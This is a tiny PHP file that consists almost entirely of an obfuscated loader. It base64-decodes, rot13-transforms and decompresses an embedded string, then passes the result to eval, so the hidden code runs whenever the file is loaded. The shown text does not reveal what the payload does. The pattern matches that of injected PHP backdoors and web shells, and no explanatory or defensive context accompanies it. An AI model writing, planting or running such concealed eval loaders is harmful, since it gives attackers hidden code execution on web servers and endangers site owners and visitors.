<?php
$_F=__FILE__;$_X='';
eval(gzinflate(str_rot13(base64_decode($_X
    .'WC1YzNFVryrNWM7PLShXLS7WVVcsQTUziUJWWs5CVtVDQvUr8gnxC/D0ZDb191ZkC8wMtKxnCaww'
    .'Zwk08wrLLPIPMykKM/Su8A9WNvcMM2eu9A7O8C4J869ZycwsBerxqlcOC4xXNwwrCLQMyskpDAoP'
    .'91cxM2hXzClVaglmKldqMWeLYwzz9GdnqmX0WS63SNfU1LQGAA=='))));
